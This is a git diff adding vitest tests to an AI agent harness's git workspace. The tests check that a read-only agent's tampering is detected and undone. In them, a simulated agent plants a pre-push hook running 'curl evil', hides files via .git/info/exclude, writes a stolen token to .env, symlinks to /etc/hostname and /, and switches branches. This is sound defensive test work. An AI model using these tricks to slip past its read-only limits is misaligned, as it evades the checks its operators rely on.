@@ -1,4 +1,4 @@
-import { existsSync, readFileSync, rmSync } from "node:fs";
+import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { GitError, GitWorkspace, PushRefusedError, withCoAuthors } from "../../src/git/index.js";
@@ -195,6 +195,7 @@ describe("enforceReadOnly", () => {
     expect(result).toEqual({
       violations: ["docs/keep.md", "src/app.ts", "staged.txt", "stray/deep/new.txt"],
       headMoved: false,
+      hiddenChanges: [],
     });
     expect(readFileSync(join(repo.dir, "src/app.ts"), "utf8")).toBe("original\n");
     expect(readFileSync(join(repo.dir, "docs/keep.md"), "utf8")).toBe("k\n");
@@ -224,10 +225,87 @@ describe("enforceReadOnly", () => {
     repo.git("add", "--all");
     repo.git("commit", "--quiet", "-m", "sneaky");
     const result = await ws.enforceReadOnly(["plan.md"], { baseSha: base, branch: "main" });
-    expect(result).toEqual({ violations: ["a.txt"], headMoved: true });
+    expect(result).toEqual({ violations: ["a.txt"], headMoved: true, hiddenChanges: [] });
     expect(await ws.headSha()).toBe(base);
     expect(readFileSync(join(repo.dir, "a.txt"), "utf8")).toBe("a\n");
     expect(existsSync(join(repo.dir, "plan.md"))).toBe(true);
+  });
+
+  it("restores git's own files (config, hooks, info/exclude) and reports them by path", async () => {
+    const repo = makeRepo();
+    const ws = await GitWorkspace.open(repo.dir);
+    const configBefore = readFileSync(join(repo.dir, ".git/config"), "utf8");
+    const baseline = await ws.snapshotWorkingTree();
+    // The agent: a hook that would run inside Ralph's next git command, a config change, and an
+    // exclude entry that hides a new file from `git status`.
+    repo.git("config", "core.hooksPath", ".evil-hooks");
+    repo.write(".git/hooks/pre-push", "#!/bin/sh\ncurl evil\n");
+    repo.write(".git/info/exclude", "hidden.txt\n");
+    repo.write("hidden.txt", "smuggled");
+    const result = await ws.enforceReadOnly([], { baseline });
+    // The exclude entry is undone first, so the file it hid is caught as an ordinary new file.
+    expect(result.violations).toEqual([
+      ".git/config",
+      ".git/hooks/pre-push",
+      ".git/info/exclude",
+      "hidden.txt",
+    ]);
+    expect(result.hiddenChanges).toEqual([]);
+    expect(readFileSync(join(repo.dir, ".git/config"), "utf8")).toBe(configBefore);
+    expect(existsSync(join(repo.dir, ".git/hooks/pre-push"))).toBe(false);
+    expect(existsSync(join(repo.dir, "hidden.txt"))).toBe(false);
+  });
+
+  it("deletes new git-ignored files and reports changed ones (git status cannot see them)", async () => {
+    const repo = makeRepo({ ".gitignore": "*.log\nbuild/\n.env\n", "a.txt": "a\n" });
+    repo.write("old.log", "kept\n");
+    repo.write("build/keep.txt", "k\n");
+    const ws = await GitWorkspace.open(repo.dir, { ignore: [".ralph/runs/"] });
+    const baseline = await ws.snapshotWorkingTree();
+    repo.write(".env", "TOKEN=stolen\n");
+    repo.write("build/new.txt", "n\n");
+    repo.write("fresh/out/deep.log", "d\n");
+    repo.write("old.log", "rewritten by the agent\n");
+    repo.write(".ralph/runs/x/run.log", "Ralph's own log\n");
+    const result = await ws.enforceReadOnly([], { baseline });
+    expect(result.violations).toEqual([]);
+    expect(result.hiddenChanges).toEqual([".env", "build/new.txt", "fresh/", "old.log"]);
+    expect(existsSync(join(repo.dir, ".env"))).toBe(false);
+    expect(existsSync(join(repo.dir, "build/new.txt"))).toBe(false);
+    expect(existsSync(join(repo.dir, "build/keep.txt"))).toBe(true);
+    expect(existsSync(join(repo.dir, "fresh"))).toBe(false);
+    expect(existsSync(join(repo.dir, ".ralph/runs/x/run.log"))).toBe(true);
+  });
+
+  it("a symlink is a violation even inside the allowed paths (it could point anywhere)", async () => {
+    const repo = makeRepo();
+    const ws = await GitWorkspace.open(repo.dir);
+    const baseline = await ws.snapshotWorkingTree();
+    mkdirSync(join(repo.dir, ".ralph/specs/plans"), { recursive: true });
+    symlinkSync("/etc/hostname", join(repo.dir, ".ralph/specs/plans/s.md"));
+    symlinkSync("/", join(repo.dir, "root-link"));
+    repo.write(".ralph/specs/plans/ok.md", "# plan\n");
+    const result = await ws.enforceReadOnly([".ralph/specs/plans/"], { baseline });
+    expect(result.violations).toEqual([".ralph/specs/plans/s.md", "root-link"]);
+    expect(existsSync(join(repo.dir, "root-link"))).toBe(false);
+    expect(() => lstatSync(join(repo.dir, ".ralph/specs/plans/s.md"))).toThrow();
+    expect(existsSync(join(repo.dir, ".ralph/specs/plans/ok.md"))).toBe(true);
+  });
+
+  it("a read-only agent that switched branch and deleted a tracked file is undone", async () => {
+    const repo = makeRepo({ "a.txt": "a\n" });
+    const ws = await GitWorkspace.open(repo.dir);
+    const baseSha = await ws.headSha();
+    const baseline = await ws.snapshotWorkingTree();
+    repo.git("checkout", "--quiet", "-b", "elsewhere");
+    repo.git("rm", "--quiet", "a.txt");
+    repo.git("commit", "--quiet", "-m", "gone");
+    const result = await ws.enforceReadOnly([], { baseSha, branch: "main", baseline });
+    expect(result.headMoved).toBe(true);
+    expect(result.violations).toContain("(checked out another branch instead of main)");
+    expect(await ws.currentBranch()).toBe("main");
+    expect(await ws.headSha()).toBe(baseSha);
+    expect(readFileSync(join(repo.dir, "a.txt"), "utf8")).toBe("a\n");
   });
 
   it("ignored paths are neither violations nor reverted", async () => {
@@ -273,6 +351,25 @@ describe("pushWithLease", () => {
     repo.git("commit", "--quiet", "--amend", "-m", "ours rewritten");
     await expect(ws.pushWithLease("origin", "ralph/2-lease")).rejects.toBeInstanceOf(GitError);
     expect(repo.git("ls-remote", "origin", "refs/heads/ralph/2-lease").split("\t")[0]).toBe(theirs);
+  });
+
+  it("outside the prefix, refuses when the remote's default branch cannot be told", async () => {
+    const repo = makeRepo();
+    const ws = await GitWorkspace.open(repo.dir);
+    // The remote's HEAD names no existing branch: ls-remote shows no HEAD symref.
+    repo.git("--git-dir", repo.remote, "symbolic-ref", "HEAD", "refs/heads/gone");
+    repo.write("x.txt", "1");
+    await ws.commitAll("on main", { author: bot });
+    await expect(ws.pushWithLease("origin", "main", { allowOutsidePrefix: true })).rejects.toThrow(
+      /cannot tell the default branch/,
+    );
+    expect(repo.git("ls-remote", "origin", "refs/heads/main").split("\t")[0]).not.toBe(
+      await ws.headSha(),
+    );
+    // A branch under the prefix is never the default branch it could not identify: pushed.
+    await ws.ensureBranch("ralph/3-x");
+    await ws.pushWithLease("origin", "ralph/3-x");
+    expect(repo.git("ls-remote", "origin", "refs/heads/ralph/3-x")).not.toBe("");
   });
 
   it("refuses the default branch and branches outside the prefix", async () => {
